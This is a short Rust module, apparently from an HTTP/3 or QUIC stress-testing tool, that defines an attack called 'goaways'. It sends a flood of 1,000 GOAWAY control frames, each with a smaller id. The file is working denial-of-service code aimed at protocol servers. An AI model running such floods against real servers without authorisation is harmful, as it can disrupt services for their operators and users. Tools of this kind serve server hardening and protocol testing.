//! GOAWAY frames, each with a smaller id.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("goaways", "GOAWAY frames", run);

fn run(a: &mut Attacker) {
    let frames = (0..1_000)
        .rev()
        .map(|n| wire::frame(0x07, &wire::varint(n)))
        .collect::<Vec<_>>()
        .concat();
    flood::control(a, &frames, 1_000);
}
